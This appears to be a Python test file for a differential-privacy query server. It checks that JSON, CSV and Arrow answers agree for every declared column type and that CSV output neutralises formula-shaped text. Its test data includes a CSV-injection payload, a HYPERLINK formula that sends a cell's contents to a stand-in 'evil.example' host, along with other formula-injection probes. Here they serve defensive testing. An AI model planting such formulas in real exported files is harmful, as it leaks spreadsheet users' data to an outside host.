"""Every declared type × JSON, CSV and Arrow, on a live server with private-partition keys (issue #26, items 7
and 8): the three formats carry the same values; CSV never hands a spreadsheet a formula (a released text key
`=HYPERLINK(…)` is written `'=HYPERLINK(…)`) while numbers stay numbers (-3 stays -3); Arrow's schema follows
the declared types (UBIGINT as uint64, DECIMAL as decimal128, DATE as date32) and never fails after the charge
(a UBIGINT key >= 2^63 used to be a charged 500 `internal` as Arrow while JSON answered)."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import math
import secrets
from collections.abc import Iterator
from decimal import Decimal

import httpx
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proxy.engines.duckdb_engine import write_database
from proxy.http.formats import ARROW, arrow_type, neutralised, to_arrow, to_csv
from proxy.query.types import TYPE_KINDS
from tests.support.live import Server

KEY = secrets.token_urlsafe(24)
UNITS_PER_VALUE = 300  # every key value is held by this many people: private partition selection releases it
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "-3", "+1", "@SUM(A1)", "\tx", "\rx", "=1+1")

# per declared type: the values of its key column (None: NULL), extremes included
VALUES: dict[str, tuple[object, ...]] = {
    "TINYINT": (-128, 127, 0, None),
    "SMALLINT": (-32768, 32767, None),
    "INTEGER": (-(2**31), 2**31 - 1, None),
    "BIGINT": (-(2**63), 2**63 - 1, None),
    "HUGEINT": (-(10**38) + 1, 10**38 - 1, 2**70, None),
    "UTINYINT": (0, 255, None),
    "USMALLINT": (0, 65535, None),
    "UINTEGER": (0, 2**32 - 1, None),
    "UBIGINT": (0, 2**63 + 7, 2**64 - 1, None),
    "FLOAT": (-3.4028234663852886e38, 0.10000000149011612, None),
    "DOUBLE": (-1.7976931348623157e308, 5e-324, 0.1, None),
    "DECIMAL(10,2)": (Decimal("-99999999.99"), Decimal("12.34"), Decimal("0.05"), None),
    "DECIMAL(38,0)": (10**38 - 1, -(10**38) + 1, None),
    "VARCHAR": (*FORMULAS, "north", "", None),
    "DATE": (dt.date(1, 1, 1), dt.date(9999, 12, 31), dt.date(2024, 2, 29), None),
    "BOOLEAN": (True, False, None),
}
EXPECTED_ARROW = {
    "DECIMAL": pa.decimal128(18, 3),  # DuckDB's default DECIMAL(18,3)
    "TINYINT": pa.int8(), "SMALLINT": pa.int16(), "INTEGER": pa.int32(), "BIGINT": pa.int64(),
    "HUGEINT": pa.decimal128(38, 0), "UTINYINT": pa.uint8(), "USMALLINT": pa.uint16(), "UINTEGER": pa.uint32(),
    "UBIGINT": pa.uint64(), "FLOAT": pa.float32(), "DOUBLE": pa.float64(), "DECIMAL(10,2)": pa.decimal128(10, 2),
    "DECIMAL(38,0)": pa.decimal128(38, 0), "VARCHAR": pa.string(), "DATE": pa.date32(), "BOOLEAN": pa.bool_(),
}


def _column(type_name: str) -> str:
    return "k_" + "".join(c for c in type_name.lower() if c.isalnum())


def _sql_literal(type_name: str, value: object) -> str:
    if value is None:
        return f"CAST(NULL AS {type_name})"
    if isinstance(value, str):
        return "'" + value.replace("'", "''") + "'"
    if isinstance(value, dt.date):
        return f"DATE '{value.isoformat()}'"
    if isinstance(value, float):
        return f"CAST('{value!r}' AS {type_name})"
    return f"CAST('{value}' AS {type_name})"


def _policy() -> str:
    columns = "\n".join(f"columns.{_column(t)} = {{ type = \"{t}\", groupable = true }}" for t in VALUES)
    return f"""
ledger = "ledger.sqlite"

[datasets.wide]
path = "wide.duckdb"
epsilon = 1.0
max_epsilon = 1.0

[datasets.wide.tables.t]
privacy_unit = "uid"
max_groups = 1
max_rows = 1
columns.uid = {{ type = "BIGINT" }}
columns.x = {{ type = "INTEGER", bounds = [-1000, 1000] }}
columns.y = {{ type = "INTEGER", bounds = [0, 10] }}
columns.dd = {{ type = "DATE", bounds = [2024-01-01, 2024-01-31] }}
{columns}

[analysts.ana]
role = "analyst"
key_sha256 = "{hashlib.sha256(KEY.encode()).hexdigest()}"
budgets = {{ wide = {{ epsilon = 1000.0, delta = 0.5 }} }}
"""


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    directory = tmp_path_factory.mktemp("formats")
    width = max(len(v) for v in VALUES.values())
    people = width * UNITS_PER_VALUE
    selects = []
    for type_name, values in VALUES.items():  # person i holds value i % len(values) of each column
        cases = " ".join(f"WHEN {j} THEN {_sql_literal(type_name, v)}" for j, v in enumerate(values))
        selects.append(f"CASE i % {len(values)} {cases} END AS {_column(type_name)}")
    write_database(directory / "wide.duckdb", (
        f"CREATE TABLE t AS SELECT i AS uid, CAST(i % 7 - 3 AS INTEGER) AS x, CAST(i % 11 AS INTEGER) AS y, "
        f"DATE '2024-01-01' + CAST(i % 30 AS INTEGER) AS dd, {', '.join(selects)} "
        f"FROM range({people}) r(i)",
    ))
    (directory / "policy.toml").write_text(_policy())
    live = Server(directory / "server.log").start(directory / "policy.toml")
    try:
        with live.client(KEY) as c:
            yield c
    finally:
        live.stop()


def _ask(client: httpx.Client, sql: str, accept: str | None = None) -> httpx.Response:
    headers = {} if accept is None else {"Accept": accept}
    return client.post("/v1/query", json={"dataset": "wide", "sql": sql, "delta": 1e-5}, headers=headers)


def _as_json(value: object) -> object:
    """An Arrow value as the JSON answer writes it."""
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, Decimal):
        return int(value) if value == value.to_integral_value() else float(value)
    return value


def _csv_cell(value: object) -> str:
    """What the CSV must hold for a JSON value: text neutralised, numbers as numbers, NULL empty."""
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralised(value)
    return repr(value) if isinstance(value, float) else str(value)


@pytest.mark.parametrize("type_name", list(VALUES))
def test_every_declared_type_answers_alike_as_json_csv_and_arrow(client: httpx.Client, type_name: str) -> None:
    key = _column(type_name)
    sql = (f"SELECT {key}, COUNT(*) AS n, SUM(x) AS s, AVG(x) AS a, COUNT(*) - 1000000 AS below, "
           f"COUNT(*) / 7 AS ratio FROM t GROUP BY {key}")
    first = _ask(client, sql, ARROW)  # the first request, charged: it must not fail after the charge
    assert first.status_code == 200, first.text
    assert first.headers["x-dp-repeat"] == "false"
    table = pa.ipc.open_stream(first.content).read_all()
    as_json = _ask(client, sql)  # repeats of the same release, free
    assert as_json.status_code == 200 and as_json.headers["x-dp-repeat"] == "true"
    body = as_json.json()
    as_csv = _ask(client, sql, "text/csv")
    assert as_csv.status_code == 200 and as_csv.headers["x-dp-repeat"] == "true"

    released = {row[0] for row in body["rows"]}
    assert None in released and len(released) >= 2, body["rows"]  # NULL and real keys passed the threshold
    # Arrow: the declared types, the JSON's values exactly
    assert table.schema.field(key).type == EXPECTED_ARROW[type_name]
    assert [str(table.schema.field(c).type) for c in ("n", "s", "a", "below", "ratio")] == [
        "int64", "int64", "double", "int64", "double"]
    assert [[_as_json(v) for v in row.values()] for row in table.to_pylist()] == body["rows"]
    # CSV: the same values, text neutralised and numbers (negative ones too) as they are
    rows = list(csv.reader(io.StringIO(as_csv.text, newline="")))
    assert rows[0] == body["columns"]
    assert rows[1:] == [[_csv_cell(v) for v in row] for row in body["rows"]]
    assert all(row[4].startswith("-") for row in rows[1:])  # COUNT(*) - 1000000: a negative number, unquoted


def test_formula_shaped_text_keys_are_neutralised_in_csv_only(client: httpx.Client) -> None:
    sql = "SELECT k_varchar, COUNT(*) AS n FROM t GROUP BY k_varchar"
    body = _ask(client, sql).json()
    keys = [row[0] for row in body["rows"]]
    assert set(FORMULAS) <= set(keys)  # JSON: the released keys exactly
    text = _ask(client, sql, "text/csv").text
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    for formula in FORMULAS:
        assert "'" + formula in cells and formula not in cells, formula
    assert "north" in cells and "" in cells  # plain text as it is; NULL and the empty key both empty fields
    arrow = pa.ipc.open_stream(_ask(client, sql, ARROW).content).read_all()
    assert set(FORMULAS) <= set(arrow.column("k_varchar").to_pylist())  # Arrow: exact


def test_a_ubigint_key_past_2_63_answers_as_arrow_on_the_first_request(client: httpx.Client) -> None:
    sql = "SELECT k_ubigint AS big, COUNT(*) AS n FROM t WHERE k_ubigint > 1000 GROUP BY k_ubigint"
    response = _ask(client, sql, ARROW)
    assert response.status_code == 200, response.text  # was 500 `internal`, charged
    table = pa.ipc.open_stream(response.content).read_all()
    assert table.schema.field("big").type == pa.uint64()
    assert sorted(table.column("big").to_pylist()) == [2**63 + 7, 2**64 - 1]


def test_every_aggregate_kind_is_released_in_its_declared_arrow_type(client: httpx.Client) -> None:
    sql = ("SELECT COUNT(*) AS n, COUNT(DISTINCT uid) AS u, SUM(x) AS s, AVG(x) AS a, VAR_POP(x) AS v, "
           "STDDEV(x) AS sd, MEDIAN(x) AS m, MEDIAN(y) AS my, QUANTILE_CONT(y, 0.9) AS qy, MIN(dd) AS first, "
           "MEDIAN(dd) AS mid FROM t")
    response = _ask(client, sql, ARROW)
    assert response.status_code == 200, response.text
    table = pa.ipc.open_stream(response.content).read_all()
    assert {f.name: str(f.type) for f in table.schema} == {
        "n": "int64", "u": "int64", "s": "int64", "a": "double", "v": "double", "sd": "double",
        "m": "double",  # a 1 001-point grid over [-1000, 1000]: grid values are not whole numbers
        "my": "int64", "qy": "int64",  # every integer of [0, 10] is a grid point
        "first": "date32[day]", "mid": "date32[day]"}
    assert [[_as_json(v) for v in row.values()] for row in table.to_pylist()] == _ask(client, sql).json()["rows"]


# --- to_arrow and to_csv are total: any JSON value under any declared type --------------------------------

DECLARED = [*TYPE_KINDS, "DECIMAL(10,2)", "DECIMAL(38,10)", "DECIMAL(1,0)", None]
json_values = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(2**200), max_value=2**200),
    st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=8),
    st.sampled_from(["2024-01-31", "0001-01-01", "9999-12-31", "2024-02-30", "=1", "\ud800"]),
)


@settings(max_examples=300, deadline=None)
@given(type_name=st.sampled_from(DECLARED), values=st.lists(json_values, max_size=6))
def test_arrow_and_csv_never_fail_and_keep_every_value(type_name: str | None, values: list[object]) -> None:
    body = json.dumps({"columns": ["c"], "rows": [[v] for v in values], "charge": {}}).encode()
    table = pa.ipc.open_stream(to_arrow(body, [type_name])).read_all()
    got = table.column("c").to_pylist()
    for want, have in zip(json.loads(body)["rows"], got, strict=True):
        _same(want[0], have)
    text, _ = to_csv(body)
    assert len(list(csv.reader(io.StringIO(text.decode(), newline="")))) == len(values) + 1


def _same(want: object, have: object) -> None:
    """`have` (from Arrow) holds exactly the JSON value `want`, or its JSON text where no type could."""
    if want is None:
        assert have is None
    elif isinstance(have, str) and not isinstance(want, str):
        assert have == json.dumps(want)
    elif isinstance(want, str):
        assert have == want or (isinstance(have, dt.date) and have.isoformat() == want) \
            or have == json.dumps(want)
    elif isinstance(want, bool):
        assert have is want
    elif isinstance(want, float) and math.isnan(want):
        assert isinstance(have, float) and math.isnan(have)
    elif isinstance(have, Decimal):
        exact = Decimal(repr(want)) if isinstance(want, float) else Decimal(want)  # type: ignore[arg-type]
        assert have == exact
    else:
        exact_int = isinstance(want, int) and float(want) == have and int(have) == want  # type: ignore[arg-type]
        assert (have == want and type(have) is type(want)) or exact_int


def test_arrow_types_of_every_declared_type() -> None:
    for type_name, expected in EXPECTED_ARROW.items():
        assert arrow_type(type_name) == expected, type_name
    assert {t for t in TYPE_KINDS} <= set(EXPECTED_ARROW)  # a new declarable type needs its row here


def test_a_value_its_type_cannot_hold_widens_the_column_not_the_answer() -> None:
    body = json.dumps({"columns": ["n", "d", "h"], "rows": [[1.5, 1e28, 2**127], [2, 0.5, None]]}).encode()
    table = pa.ipc.open_stream(to_arrow(body, ["BIGINT", "DECIMAL(38,10)", "HUGEINT"])).read_all()
    assert [str(f.type) for f in table.schema] == ["double", "double", "decimal256(76, 0)"]
    assert table.to_pylist() == [{"n": 1.5, "d": 1e28, "h": Decimal(2**127)}, {"n": 2.0, "d": 0.5, "h": None}]


def test_neutralised_csv_cells_follow_owasp() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralised(start + "x") == "'" + start + "x"
    assert neutralised("a=b") == "a=b" and neutralised("'=x") == "'=x"  # already text to a spreadsheet
